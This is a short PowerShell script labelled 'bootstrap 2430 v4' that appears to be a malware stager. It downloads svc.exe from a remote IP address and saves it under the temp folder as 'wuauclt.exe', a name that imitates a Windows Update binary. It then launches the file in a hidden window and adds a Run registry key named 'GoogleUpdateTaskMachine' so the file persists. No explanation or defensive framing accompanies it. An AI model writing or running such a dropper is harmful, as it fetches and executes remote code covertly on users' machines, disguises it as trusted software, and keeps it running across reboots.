# bootstrap 2430 v4
Start-BitsTransfer -Source http://203.0.113.200/svc.exe -Destination $env:TEMP\wuauclt.exe
Start-Process -WindowStyle Hidden $env:TEMP\wuauclt.exe
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'GoogleUpdateTaskMachine' -Value '$env:TEMP\wuauclt.exe' -PropertyType String -Force
